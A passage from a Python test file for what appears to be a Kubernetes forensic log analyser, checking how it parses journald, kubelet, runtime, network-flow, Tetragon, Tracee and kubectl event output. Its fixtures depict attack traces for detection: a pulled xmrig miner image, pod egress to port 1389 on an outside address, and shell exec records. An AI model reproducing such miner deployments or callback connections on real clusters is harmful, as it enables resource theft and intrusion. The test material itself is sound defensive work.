                  f'returns container id \\"{CONTAINER}\\""'),
            entry(2, _SYSTEMD_UNIT="kubelet.service", SYSLOG_IDENTIFIER="kubelet",
                  MESSAGE=f'I0301 10:00:02.0 1 kubelet.go:1] "SyncLoop" pod="{NAMESPACE}/{POD}"'),
            entry(3, SYSLOG_IDENTIFIER=["kubelet", "twice"],
                  MESSAGE=list(f'x pod="{NAMESPACE}/{POD}" \xff'.encode("latin-1"))),
            entry(4, SYSLOG_IDENTIFIER="kubelet", MESSAGE=None)]
        self.put("journal.json", "".join(compact(e) + "\n" for e in text))
        self.analyze()
        seen = self.source("journal.json")
        self.assertEqual((seen["role"], seen["records"]), ("runtime-log", 5))
        events = self.of("journal.json", "runtime")
        self.assertEqual([e["time"] // 10**9 % 60 for e in events], [0, 1, 2, 3])
        self.assertEqual(events[1]["fields"]["container_id"], CONTAINER)

    SAID = (("containerd", 'time="2026-03-01T10:00:00.5Z" level=info msg="RunPodSandbox for '
             f'&PodSandboxMetadata{{Name:{POD},Uid:{UID},Namespace:{NAMESPACE},Attempt:0,}} '
             f'returns sandbox id \\"{"5a4db0" + "0" * 58}\\""'),
            ("crio", 'time="2026-03-01 10:00:01.000000000Z" level=info msg="Created container '
             f'{CONTAINER}: {NAMESPACE}/{POD}/app" id=1 name=/runtime.v1.RuntimeService/'
             'CreateContainer'),
            ("kubelet", 'I0301 10:00:02.000000 812 kubelet.go:1] "SyncLoop UPDATE" '
             f'source="api" pod="{NAMESPACE}/{POD}"'),
            ("k3s", f'E0301 10:00:03.000000 9 pod_workers.go:1] pod="{NAMESPACE}/{POD}" '
             f'podUID="{UID}" err="x: y"'))

    def journal_forms(self):
        """journalctl -o …, of the same four entries; systemd's journalctl(1)."""
        def lines_of(stamp):
            return "".join(f"{stamp(n)} node-1 {who}[{800 + n}]: {said}\n"
                           for n, (who, said) in enumerate(self.SAID))
        head = "-- Journal begins at Sun 2026-03-01 08:00:00 UTC, ends at x. --\n"
        epoch = 1772359200
        yield "short.log", head + lines_of(lambda n: f"Mar 01 10:00:0{n}"), "second"
        yield "precise.log", lines_of(lambda n: f"Mar 01 10:00:0{n}.123456"), "microsecond"
        yield "iso.log", lines_of(lambda n: f"2026-03-01T11:00:0{n}+0100"), "second"
        yield "iso-precise.log", lines_of(
            lambda n: f"2026-03-01T10:00:0{n}.123456+00:00"), "microsecond"
        yield "full.log", lines_of(lambda n: f"Sun 2026-03-01 10:00:0{n} UTC"), "second"
        yield "unix.log", lines_of(lambda n: f"{epoch + n}.123456"), "microsecond"
        yield "verbose.txt", head + "".join(
            f"Sun 2026-03-01 10:00:0{n}.123456 UTC [s=a;i={n};b=c;m=d;t=e;x=f]\n"
            f"    PRIORITY=6\n    _HOSTNAME=node-1\n    SYSLOG_IDENTIFIER={who}\n"
            f"    _PID={800 + n}\n    MESSAGE={said}\n"
            for n, (who, said) in enumerate(self.SAID)), "microsecond"
        export = b""
        for n, (who, said) in enumerate(self.SAID):
            # What is no text in one line has its length before it.
            said = said.encode() + (b"\nsecond line\n\n" if n == 2 else b"")
            export += (f"__CURSOR=s={n}\n__REALTIME_TIMESTAMP={(epoch + n) * 10**6 + 123456}\n"
                       f"_HOSTNAME=node-1\nSYSLOG_IDENTIFIER={who}\n_PID={800 + n}\n").encode()
            export += (b"MESSAGE\n" + len(said).to_bytes(8, "little") + said if n == 2
                       else b"MESSAGE=" + said) + b"\n\n"
        yield "export.journal", export, "microsecond"
        records = [compact({"__REALTIME_TIMESTAMP": str((epoch + n) * 10**6 + 123456),
                            "_HOSTNAME": "node-1", "SYSLOG_IDENTIFIER": who, "MESSAGE": said})
                   for n, (who, said) in enumerate(self.SAID)]
        yield "sse.txt", "".join(f"data: {r}\n\n" for r in records), "microsecond"
        yield "seq.txt", "".join(f"\x1e{r}\n" for r in records), "microsecond"
        # What a collector was sent: RFC 3164 and RFC 5424, with their priority.
        yield "bsd.txt", "".join(
            f"<30>Mar  1 10:00:0{n} node-1 {who}[{800 + n}]: {said}\n"
            for n, (who, said) in enumerate(self.SAID)), "second"
        yield "protocol.txt", "".join(
            f"<30>1 2026-03-01T10:00:0{n}.123456Z node-1 {who} {800 + n} - "
            f"{('-', '[a@1 b=' + chr(34) + 'c' + chr(34) + ']')[n % 2]} {said}\n"
            for n, (who, said) in enumerate(self.SAID)), "microsecond"

    def test_files_of_kubelet_and_runtime(self):
        """/var/lib/rancher/rke2/agent: containerd/containerd.log and logs/kubelet.log."""
        sandbox = "5a4db0" + "0" * 58
        self.put("containerd.log", "".join(
            f'time="2026-03-01T10:00:0{n}.5Z" level=info msg="{said}"\n' for n, said in enumerate((
                "starting containerd", f"RunPodSandbox for &PodSandboxMetadata{{Name:{POD},"
                f'Uid:{UID},Namespace:{NAMESPACE},Attempt:0,}} returns sandbox id \\"{sandbox}\\"',
                f'CreateContainer within sandbox \\"{sandbox}\\" for &ContainerMetadata{{Name:app,'
                f'Attempt:0,}} returns container id \\"{CONTAINER}\\"',
                f'StartContainer for \\"{CONTAINER}\\" returns successfully'))))
        self.put("crio.log", 'time="2026-03-01 10:00:01.5Z" level=info msg="Created container '
                 f'{CONTAINER}: {NAMESPACE}/{POD}/app" id=1 name=/runtime.v1.RuntimeService/'
                 'CreateContainer pod sandbox\n')
        self.put("kubelet.log", "I0301 10:00:00.000001     812 server.go:1] \"Started kubelet\"\n"
                 'I0301 10:00:02.500000     812 kubelet.go:1] "SyncLoop ADD" source="api" '
                 f'pods=["{NAMESPACE}/{POD}"]\n')
        self.put("plain.log", 'time="2026-03-01T10:00:00.5Z" level=info msg="shop is up"\n')
        self.analyze()
        for name, seconds in (("containerd.log", [1, 2, 3]), ("crio.log", [1]),
                              ("kubelet.log", [2])):
            self.assertEqual(self.source(name)["role"], "runtime-log")
            events = self.of(name, "runtime")
            self.assertEqual([(e["time"] // 10**8) for e in events],
                             [(1772359200 + s) * 10 + 5 for s in seconds], name)
        self.assertEqual(self.of("crio.log", "runtime")[0]["fields"]["container_id"], CONTAINER)
        self.assertEqual(self.source("plain.log")["role"], "container-log")

    def test_connections_that_the_network_plugin_saw(self):
        pod = {"namespace": NAMESPACE, "pod_name": POD}
        other = {"namespace": "db", "pod_name": "pg-0"}
        hubble = [{"flow": {"time": f"2026-03-01T10:00:0{n}.5Z", "verdict": verdict,
                            "IP": {"source": "10.0.0.7", "destination": to, "ipVersion": "IPv4"},
                            "l4": {"TCP": {"source_port": 4000, "destination_port": port}},
                            "source": source, "destination": target},
                   "node_name": "node-1", "time": f"2026-03-01T10:00:0{n}.5Z"}
                  for n, verdict, to, port, source, target in (
                      (1, "FORWARDED", "192.0.2.66", 1389, pod, {}),
                      (2, "DROPPED", "10.0.0.9", 80, other, pod),
                      (3, "FORWARDED", "10.0.0.8", 81, other, other))]
        google = {"timestamp": "2026-03-01T10:00:04.5Z", "resource": {"type": "k8s_node"},
                  "jsonPayload": {"disposition": "deny", "node_name": "node-1", "src": pod,
                                  "connection": {"protocol": "tcp", "src_ip": "10.0.0.7",
                                                 "src_port": 4000, "dest_ip": "192.0.2.66",
                                                 "dest_port": 1389, "direction": "egress"},
                                  "policies": [{"name": "deny", "namespace": NAMESPACE}],
                                  "dest": {"instance": "192.0.2.66"}, "count": 3}}
        self.put("hubble.ndjson", "".join(compact(x) + "\n" for x in hubble))
        self.put("policy-action.json", json.dumps([google], indent=1))
        self.analyze()
        self.assertEqual([(e["action"], e["object"], e["message"])
                          for e in self.of("hubble.ndjson", "runtime")],
                         [("connection let through", "192.0.2.66:1389",
                           "tcp 10.0.0.7:4000 to 192.0.2.66:1389: FORWARDED"),
                          ("connection held back", "10.0.0.9:80",
                           "tcp 10.0.0.7:4000 to 10.0.0.9:80: DROPPED")])
        self.assertEqual([e["message"] for e in self.of("policy-action.json", "runtime")],
                         [f"tcp 10.0.0.7:4000 to 192.0.2.66:1389: deny by {NAMESPACE}/deny"])

    def test_a_kubelet_that_writes_json(self):
        """Talos: talosctl logs kubelet, with the node before each line."""
        said = ({"caller": "kubelet/kubelet.go:2429", "msg": "SyncLoop DELETE", "source": "api",
                 "pods": [f"{NAMESPACE}/{POD}"]},
                {"caller": "prober/prober.go:107", "msg": "Probe failed", "containerName": "app",
                 "pod": {"name": POD, "namespace": NAMESPACE}})
        self.put("kubelet.log", "".join(
            "10.0.0.5: " + compact({"ts": 1772359200500.25 + 1000 * n, **x}) + "\n"
            for n, x in enumerate(said)))
        self.analyze()
        self.assertEqual(self.source("kubelet.log")["role"], "runtime-log")
        self.assertEqual([(e["time"] // 10**6, e["message"])
                          for e in self.of("kubelet.log", "runtime")],
                         [(1772359200500, "SyncLoop DELETE source=api"),
                          (1772359201500, "Probe failed containerName=app")])

    def test_the_kubelet_by_other_names(self):
        for name in ("kubenswrapper", "hyperkube", "microk8s.daemon-kubelite"):
            self.put("service.log", f"Mar 01 10:00:01.5 node-1 {name}[7]: I0301 10:00:01.5 7 "
                     f'kubelet.go:1] "SyncLoop ADD" source="api" pods=["{NAMESPACE}/{POD}"]\n')
            self.analyze()
            self.assertEqual(self.source("service.log")["role"], "runtime-log", name)
            self.assertEqual(len(self.of("service.log", "runtime")), 1, name)

    def test_journals_as_journalctl_prints_them(self):
        for name, text, precision in self.journal_forms():
            with self.subTest(form=name):
                name = f"node-1/{name}"
                shutil.rmtree(self.package / "node-1", ignore_errors=True)
                self.put(name, text)
                self.analyze()
                seen = self.source(name)
                self.assertEqual((seen["role"], seen["records"], seen["malformed"]["count"]),
                                 ("runtime-log", 4, 0))
                data = text if isinstance(text, bytes) else text.encode()
                events = self.of(name, "runtime")
                self.assertEqual([e["time"] // 10**9 for e in events],
                                 [1772359200 + n for n in range(4)])
                escaped = name.endswith(("sse.txt", "seq.txt"))
                texts = [json.dumps(s)[1:-1] if escaped else s for _, s in self.SAID]
                for e, (who, _), said in zip(events, self.SAID, texts):
                    self.assertEqual((e["action"], e["fields"]["node"], e["precision"]),
                                     (who, "node-1", precision))
                    cited = data[e["offset"]:e["offset"] + e["length"]]
                    self.assertIn(said.encode(), cited)
                    self.assertEqual(sum(s.encode() in cited for s in texts), 1)
                self.assertEqual(events[0]["fields"]["sandbox_id"], "5a4db0" + "0" * 58)
                self.assertEqual(events[1]["fields"]["container_id"], CONTAINER)
                self.assertEqual([(e["fields"].get("namespace"), e["fields"].get("pod"))
                                  for e in events], [(NAMESPACE, POD)] * 4)
                assumed = {"node-1/short.log": "year and zone",
                           "node-1/precise.log": "year and zone",
                           "node-1/bsd.txt": "year and zone"}.get(name)
                self.assertEqual({e["fields"].get("assumed") for e in events}, {assumed})

    BANNERS = ("==> /var/log/x.log <==\n", "root@node-1:~# journalctl -u kubelet\n",
               "-- Logs begin at Sun 2026-03-01 09:00:00 UTC, end at Sun 2026-03-01 11:00:00 UTC. --\n",
               'Defaulted container "app" out of: app, init (init)\n',
               "Welcome to Ubuntu 22.04 LTS\n\n * Documentation: https://help.ubuntu.com\n\n")

    def test_logs_behind_what_a_shell_printed(self):
        """Each log alone, behind each banner, and with one in its middle."""
        six = range(6)
        logs = {
            "audit-log": [compact(record(n)) for n in six],
            "falco-alerts": [compact(alert(n)) for n in six],
            "container-log": [f"2026-03-01T10:00:0{n}.5Z stdout F line {n}" for n in six],
            "runtime-log": [f"Mar 01 10:00:0{n} node-1 kubelet[7]: I0301 10:00:0{n}.123456 7 "
                            f"kubelet.go:1] \"SyncLoop ADD\" pods=[\"{n}\"]" for n in six]}
        for role, text in logs.items():
            whole = "\n".join(text) + "\n"
            for i, banner in enumerate(self.BANNERS):
                self.put(f"{role}/{i}", banner + whole)
            self.put(f"{role}/middle", self.BANNERS[0] + "\n".join(text[:3]) + "\n\n" +
                     self.BANNERS[0].replace("x", "y") + "\n".join(text[3:]) + "\n")
        self.analyze()
        kinds = {"audit-log": "audit", "falco-alerts": "falco", "container-log": "container-log"}
        for role in logs:
            for name in (*range(len(self.BANNERS)), "middle"):
                with self.subTest(role=role, name=name):
                    self.assertEqual(self.source(f"{role}/{name}")["role"], role)
                    read = self.source(f"{role}/{name}")["records"]
                    # Lines of containers are lines, whoever wrote them.
                    self.assertEqual(read if role != "container-log" else 6, 6)
                    if role in kinds:
                        self.assertGreaterEqual(len(self.of(f"{role}/{name}", kinds[role])), 6)

    def test_texts_with_times_that_are_no_logs(self):
        self.put("notes", "We met.\n" + "".join(
            f"2026-03-01T10:00:0{n}Z the attacker did {n}\n" for n in range(6)))
        self.put("minutes", "Agenda\n" + "".join(f"10:0{n} item {n}\n" for n in range(6)))
        self.put("half", "".join(f"a\nb\n2026-03-01T10:00:0{n}.5Z stdout F x\n" for n in range(6)))
        self.analyze()
        self.assertEqual({s["item"] for s in self.coverage["sources"]} &
                         {"notes", "minutes", "half"}, set())

    def test_logs_that_kubelet_and_containerd_write_themselves(self):
        """klog tells neither year nor zone: the year is that of the pod's making."""
        sandbox, made = "5b" * 32, "c1" * 32
        self.put("kubelet.log", "".join(
            f"I0301 10:00:0{n}.123456    7 kubelet.go:{n}] \"SyncLoop ADD\" "
            f"pod=\"{NAMESPACE}/{POD}\"\n" for n in range(3)))
        self.put("containerd.log", (
            f'time="2026-03-01T10:00:01.123456789Z" level=info msg="RunPodSandbox for '
            f'&PodSandboxMetadata{{Name:{POD},Uid:{UID},Namespace:{NAMESPACE},Attempt:0,}} '
            f'returns sandbox id \\"{sandbox}\\""\n'
            f'time="2026-03-01T10:00:02.123456789Z" level=info msg="CreateContainer within '
            f'sandbox \\"{sandbox}\\" for &ContainerMetadata{{Name:app,Attempt:0,}} returns '
            f'container id \\"{made}\\""\n'))
        self.analyze()
        seen = self.of("kubelet.log", "runtime")
        self.assertEqual([e["time"] // 10**3 for e in seen],
                         [1772359200123456 + n * 10**6 for n in range(3)])
        self.assertEqual({e["fields"]["pod"] for e in seen}, {POD})
        seen = self.of("containerd.log", "runtime")
        self.assertEqual([e["time"] // 10**3 for e in seen],
                         [1772359201123456, 1772359202123456])
        self.assertEqual(seen[1]["fields"]["container_id"], made)

    def test_cloud_logging_of_nodes_as_gcloud_prints_it(self):
        self.put("node-logs.yaml", "".join(
            f"---\ninsertId: i{n}\njsonPayload:\n  MESSAGE: 'I0301 kubelet.go:1] \"SyncLoop\" "
            f"pod=\"{NAMESPACE}/{POD}\"'\n  SYSLOG_IDENTIFIER: kubelet\n"
            f"timestamp: '2026-03-01T10:00:0{n}Z'\n" for n in range(3)))
        self.analyze()
        seen = self.source("node-logs.yaml")
        self.assertEqual((seen["role"], seen["records"]), ("runtime-log", 3))
        self.assertEqual([e["time"] // 10**9 % 60 for e in self.of("node-logs.yaml", "runtime")],
                         [0, 1, 2])

    def test_tetragon_and_tracee(self):
        pod = {"namespace": NAMESPACE, "name": POD, "container": {
            "id": "containerd://" + CONTAINER, "name": "app",
            "image": {"id": "x@sha256:0", "name": "registry.example/web:1"}, "pid": 9}}
        def tetragon(kind, n, **more):
            process = {"exec_id": "e", "pid": 7, "uid": 0, "cwd": "/", "binary": "/bin/sh",
                       "arguments": "-c id", "start_time": "2026-03-01T10:00:00Z", "pod": pod,
                       "docker": CONTAINER[:31]}
            return {kind: {"process": process, **more}, "node_name": "node-1",
                    "time": f"2026-03-01T10:00:0{n}.5Z"}
        self.put("tetragon.log", "".join(compact(v) + "\n" for v in [
            tetragon("process_exec", 0), tetragon("process_exit", 1, signal="SIGKILL"),
            tetragon("process_kprobe", 2, function_name="tcp_connect", args=[
                {"sock_arg": {"daddr": "198.51.100.7", "dport": 443}}]),
            tetragon("process_tracepoint", 3, subsys="raw_syscalls", event="sys_exit")]))
        self.put("lsm.json", compact(tetragon("process_lsm", 5, function_name="x")) + "\n")
        self.put("export-stdout.log", "".join(
            f"2026-03-01T10:00:0{n}.7Z stdout F {compact(tetragon('process_exec', n))}\n"
            for n in range(3)))
        self.put("tracee.json", "".join(compact(v) + "\n" for v in [
            {"timestamp": 1772359204500000000, "eventName": "sched_process_exec",
             "processName": "sh", "processId": 7, "userId": 0, "hostName": "node-1",
             "containerId": CONTAINER, "container": {"id": CONTAINER, "name": "app"},
             "kubernetes": {"podName": POD, "podNamespace": NAMESPACE, "podUID": UID},
             "args": [{"name": "pathname", "type": "const char*", "value": "/bin/sh"}]},
            {"timestamp": "2026-03-01T10:00:05.5Z", "id": "sched_process_exec",
             "name": "sched_process_exec", "policies": {"matched": ["p"]},
             "workload": {"process": {"executable": {"path": "/bin/sh"}, "pid": {"value": 7},
                                      "thread": {"name": "sh"}},
                          "container": {"id": CONTAINER, "name": "app",
                                        "image": {"name": "registry.example/web:1"}},
                          "k8s": {"pod": {"name": POD, "uid": UID},
                                  "namespace": {"name": NAMESPACE}}},
             "data": [{"name": "pathname", "str": "/bin/sh"}]}]))
        self.analyze()
        self.assertEqual(self.source("tetragon.log")["records"], 4)
        self.assertEqual(self.source("tracee.json")["records"], 2)
        for name, n in (("tetragon.log", 4), ("tracee.json", 2), ("lsm.json", 1),
                        ("export-stdout.log", 3)):
            events = self.of(name, "runtime")
            self.assertEqual(len(events), n)
            for e in events:
                self.assertEqual((e["fields"]["pod"], e["fields"]["namespace"],
                                  e["fields"]["container_id"]), (POD, NAMESPACE, CONTAINER))
        found = [json.loads(line) for line in (self.package / "tetragon.log").read_text().splitlines()]
        self.put("found.json", json.dumps({"hits": {"hits": [{"_source": r} for r in found]}}))
        self.analyze()
        self.assertEqual([(e["time"], e["message"]) for e in self.of("found.json", "runtime")],
                         [(e["time"], e["message"]) for e in self.of("tetragon.log", "runtime")])
        self.assertEqual(self.of("tetragon.log", "runtime")[2]["fields"]["target"],
                         "198.51.100.7:443")
        texts = [compact(r) for r in found]
        wraps = {"collector.json": "".join(compact({"time": 1, "host": "h", "event": r})
                                           for r in found),
                 "collector.log": "".join(compact({"sourcetype": "t", "event": r}) + "\n"
                                          for r in found),
                 "splunk.json": "".join(compact({"result": {"_raw": t}}) + "\n" for t in texts),
                 "shipped.json": "".join(compact({"@timestamp": 1, "message": t}) + "\n"
                                         for t in texts),
                 "loki.json": loki(texts)}
        for name, text in wraps.items():
            self.put(name, text)
        self.analyze()
        for name, text in wraps.items():
            with self.subTest(name):
                events = self.of(name, "runtime")
                self.assertEqual([(e["time"], e["message"]) for e in events],
                                 [(e["time"], e["message"])
                                  for e in self.of("tetragon.log", "runtime")])
                for n, e in enumerate(events):
                    self.assertIn(f"2026-03-01T10:00:0{n}.5Z",
                                  text[e["offset"]:e["offset"] + e["length"]])
                    self.assertEqual(self.source(name)["malformed"]["count"], 0)

    def test_lines_of_containers_as_loki_gives_them(self):
        """Their time is Loki's, whose they are say the labels; the text is as it was."""
        said = ['plain', 'with "quotes", \\ and \u00e9\U0001f600\t', '{"json": [1]}', ""]
        values = [[str(1772359200 * 10**9 + i), x] for i, x in enumerate(said)]
        cri = f"2026-03-01T10:00:09.5Z stdout F of the runtime"
        text = json.dumps({"status": "success", "data": {"resultType": "streams", "result": [
            {"stream": {"namespace": NAMESPACE, "pod": POD, "container": "app"},
             "values": [*values, [str(1772359300 * 10**9), cri]]},
            {"stream": {"pod": "other-1", "container": "x"},
             "values": [[str(1772359201 * 10**9), "of another"]]}]}})
        self.put("answer.json", text)
        self.put("more.json", text.replace("of another", "once more"))
        self.analyze()
        seen = self.source("answer.json")
        self.assertEqual((seen["role"], seen["records"]), ("container-log", 6))
        events = self.of("answer.json", "container-log")
        self.assertEqual([(e["message"], e["time"]) for e in events],
                         [(x, 1772359200 * 10**9 + i) for i, x in enumerate(said)] +
                         [("of the runtime", 1772359209500000000)])
        for e, entry in zip(events, values):
            self.assertEqual((e["fields"]["pod"], e["fields"]["container"]), (POD, "app"))
            cited = text[e["offset"]:e["offset"] + e["length"]]
            self.assertEqual(json.loads(cited), entry)


class Objects(Inputs):
    OBJECT = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {
        "name": "settings", "namespace": NAMESPACE, "uid": "u-1",
        "creationTimestamp": "2026-03-01T09:30:00Z"}, "data": {"a": "b"}}

    def test_layouts(self):
        one, two = self.OBJECT, {**self.OBJECT, "metadata": {**self.OBJECT["metadata"],
                                                             "name": "more"}}
        typed = {"apiVersion": "v1", "kind": "ConfigMapList", "items": [
            {k: v for k, v in o.items() if k == "metadata"} for o in (one, two)]}
        from audit_forms import yaml_text
        forms = {
            "one.json": (json.dumps(one, indent=2), 1),
            "list.json": (json.dumps({"apiVersion": "v1", "kind": "List", "items": [one, two]}), 2),
            "typed.json": (json.dumps(typed), 2),
            "following.json": (json.dumps(one) + "\n" + json.dumps(two), 2),
            "one.yaml": (yaml_text(one), 1),
            "many.yaml": ("---\n" + yaml_text(one) + "---\n# nothing\n---\n" + yaml_text(two), 2),
            "list.yaml": (yaml_text({"apiVersion": "v1", "items": [one, two], "kind": "List",
                                     "metadata": {"resourceVersion": ""}}), 2),
            "broken.yaml": (yaml_text(one) + "---\na: [b\n---\n" + yaml_text(two), 2),
        }
        for name, (text, _) in forms.items():
            self.put(name, text)
        self.analyze()
        for name, (text, n) in forms.items():
            with self.subTest(form=name):
                seen = self.source(name)
                self.assertEqual(seen["role"], "kubernetes-objects")
                self.assertEqual(seen["malformed"]["count"], 1 if "broken" in name else 0)
                events = self.of(name, "objects")
                self.assertEqual(len(events), n)
                for e in events:
                    cited = text.encode()[e["offset"]:e["offset"] + e["length"]].decode()
                    self.assertIn(e["fields"]["name"], cited)

    def test_events_of_both_apis_with_counts_as_intervals(self):
        core = {"apiVersion": "v1", "kind": "Event", "metadata": {
            "name": "web-0.1", "namespace": NAMESPACE, "creationTimestamp": "2026-03-01T10:00:00Z"},
            "involvedObject": {"kind": "Pod", "namespace": NAMESPACE, "name": POD, "uid": UID},
            "reason": "BackOff", "message": "Back-off restarting", "type": "Warning", "count": 7,
            "firstTimestamp": "2026-03-01T10:00:00Z", "lastTimestamp": "2026-03-01T10:20:00Z",
            "source": {"component": "kubelet", "host": "node-1"}, "eventTime": None}
        new = {"apiVersion": "events.k8s.io/v1", "kind": "Event", "metadata": {
            "name": "web-0.2", "namespace": NAMESPACE, "creationTimestamp": "2026-03-01T10:01:00Z"},
            "regarding": {"kind": "Pod", "namespace": NAMESPACE, "name": POD, "uid": UID},
            "reason": "Killing", "note": "Stopping container app", "type": "Normal",
            "eventTime": "2026-03-01T10:01:00.500000Z", "action": "Killing",
            "reportingController": "kubelet", "reportingInstance": "node-1",
            "series": {"count": 3, "lastObservedTime": "2026-03-01T10:05:00.250000Z"}}
        self.put("events.json", json.dumps({"apiVersion": "v1", "kind": "List",
                                            "items": [core, new]}, indent=1))
        self.analyze()
        first, second = self.of("events.json", "events")
        self.assertEqual((first["time_end"] - first["time"]) // 10**9, 20 * 60)
        self.assertEqual(second["time_end"] - second["time"], (4 * 60 * 10**9 - 250 * 10**6))
        self.assertEqual(first["object"], f"Pod {NAMESPACE}/{POD}")

    def table_of(self, lines):
        """As kubectl's printer aligns columns: three blanks behind the widest cell."""
        widths = [max(len(line[i]) for line in lines) for i in range(len(lines[0]))]
        return "".join("   ".join(c.ljust(w) for c, w in zip(line, widths)).rstrip() + "\n"
                       for line in lines)

    def test_tables_of_kubectl_get_events(self):
        """Ages are relative to when the table was printed."""
        default = self.table_of([
            ("LAST SEEN", "TYPE", "REASON", "OBJECT", "MESSAGE"),
            ("59m", "Normal", "Scheduled", f"pod/{POD}", f"Successfully assigned to node-1"),
            ("5m30s", "Warning", "BackOff", f"pod/{POD}", "Back-off  restarting \u00e4pp"),
            ("<unknown>", "Normal", "Other", "node/node-1", "no age")])
        wide = self.table_of([
            ("NAMESPACE", "LAST SEEN", "TYPE", "REASON", "OBJECT", "SUBOBJECT", "SOURCE",
             "MESSAGE", "FIRST SEEN", "COUNT", "NAME"),
            (NAMESPACE, "119s", "Warning", "Unhealthy", f"pod/{POD}", "spec.containers{app}",
             "kubelet, node-1", "Readiness probe failed: \u00fc", "20m", "7", f"{POD}.17a")])
        events = self.table_of([
            ("LAST SEEN", "TYPE", "REASON", "OBJECT", "MESSAGE"),
            ("30s (x3 over 4m30s)", "Warning", "Failed", f"Pod/{POD}", "Error: x")])
        self.put("events.txt", default)  # printed when the pod, of 09:00, was 59 minutes old
        self.put("wide.txt", "$ date\nSun Mar  1 11:00:00 CET 2026\n" + wide)
        self.put("kubectl-events.txt", "# printed 2026-03-01T10:00:00Z\n" + events)
        self.analyze()
        ten = 1772359200
        first, second = sorted(self.of("events.txt", "events"), key=lambda e: e["time"])
        self.assertEqual(first["time_end"] // 10**9, ten - 3600)
        self.assertEqual((second["action"], second["severity"], second["message"]),
                         ("BackOff", "Warning", "Back-off  restarting \u00e4pp"))
        self.assertEqual((second["time_end"] // 10**9, second["object"]),
                         (ten - 60 - 330, f"Pod {NAMESPACE}/{POD}"))
        self.assertEqual(self.source("events.txt")["without_time"], 1)
        [row] = self.of("wide.txt", "events")
        self.assertEqual((row["actor"], row["fields"]["node"], row["fields"]["field"],
                          row["fields"]["count"]),
                         ("kubelet", "node-1", "spec.containers{app}", "7"))
        self.assertEqual(row["message"], "Readiness probe failed: \u00fc")
        self.assertEqual(row["time_end"] // 10**9, ten - 119)
        # "20m" is any second of that minute.
        self.assertTrue(ten - 21 * 60 <= row["time"] // 10**9 <= ten - 20 * 60)
        [row] = self.of("kubectl-events.txt", "events")
        self.assertEqual((row["time"] // 10**9, row["time_end"] // 10**9,
                          row["fields"]["count"]), (ten - 270, ten - 30, "3"))

    def test_a_table_that_nothing_dates_is_told_to_have_no_times(self):
        self.put("events.txt", self.table_of([
            ("LAST SEEN", "TYPE", "REASON", "OBJECT", "MESSAGE"),
            ("5m", "Normal", "Killing", f"pod/{POD}", "Stopping container app")]))
        self.analyze()
        self.assertEqual(self.source("events.txt")["without_time"], 1)
        self.assertIn("events.txt", [i for q in self.coverage["cannot_answer"]
                                     for i in q.get("sources", [])])

    def verdicts_of(self, prefix="event_"):
        return {(f["rule"], f["subject"], f.get("not_decidable", False)) for f in self.findings
                if f["rule"].startswith(prefix)}

    def test_rules_are_asked_about_tables_of_events(self):
        """A field that the table does not show is not decidable; what it shows decides."""
        row = ("pod/other-1", "Created container web")
        self.put("events.txt", self.table_of([
            ("LAST SEEN", "TYPE", "REASON", "OBJECT", "MESSAGE"),
            ("5m", "Normal", "Pulling", f"pod/{POD}", 'Pulling image "docker.io/x/xmrig:6"'),
            ("5m", "Normal", "Created", *row), ("5m", "Normal", "Pulled", *row)]))
        self.put("wide.txt", self.table_of([
            ("NAMESPACE", "LAST SEEN", "TYPE", "REASON", "OBJECT", "SUBOBJECT", "SOURCE",
             "MESSAGE", "FIRST SEEN", "COUNT", "NAME"),
            (NAMESPACE, "9s", "Normal", "Started", f"pod/{POD}",
             "spec.ephemeralContainers{d}", "kubelet, node-1", "Started container d", "9s", "1",
             f"{POD}.1"),
            (NAMESPACE, "9s", "Normal", "Started", "pod/other-2", "spec.containers{c}",
             "kubelet, node-1", "Started container c", "9s", "1", "other-2.1")]))
        self.analyze()
        self.assertEqual(self.verdicts_of(), {
            ("event_miner_image", f"Pod {NAMESPACE}/{POD}", False),
            ("event_ephemeral_container", "", True),
            ("event_ephemeral_container", f"Pod {NAMESPACE}/{POD}", False)})

    def test_events_at_the_end_of_a_description(self):
        described = f"""Name:             {POD}
Namespace:        {NAMESPACE}
Node:             node-1/10.0.0.1
Start Time:       Sun, 01 Mar 2026 09:00:01 +0000
Containers:
  web:
    State:          Running
      Started:      Sun, 01 Mar 2026 09:00:05 +0000
Events:
  Type     Reason     Age                   From               Message
  ----     ------     ----                  ----               -------
  Normal   Scheduled  59m                   default-scheduler  Successfully assigned it
  Normal   Pulling    58m                   kubelet            Pulling image "x/xmrig:6"
  Warning  BackOff    4m58s (x9 over 40m)   kubelet            Back-off restarting web


Name:             other-1
Namespace:        {NAMESPACE}
Events:           <none>
"""
        self.put("describe.txt", described)
        self.analyze()
        events = sorted(self.of("describe.txt", "events"), key=lambda e: e["time_end"])
        self.assertEqual([(e["action"], e["object"], e["actor"]) for e in events], [
            ("Scheduled", f"Pod {NAMESPACE}/{POD}", "default-scheduler"),
            ("Pulling", f"Pod {NAMESPACE}/{POD}", "kubelet"),
            ("BackOff", f"Pod {NAMESPACE}/{POD}", "kubelet")])
        nine = 1772359200 - 3600  # the pod is of 09:00, and was scheduled 59 minutes before
        self.assertEqual([e["time_end"] // 10**9 - nine for e in events], [0, 60, 59 * 60 - 298])
        self.assertEqual(events[2]["fields"]["count"], "9")
        self.assertIn(("event_miner_image", f"Pod {NAMESPACE}/{POD}", False), self.verdicts_of())


if __name__ == "__main__":
    unittest.main()
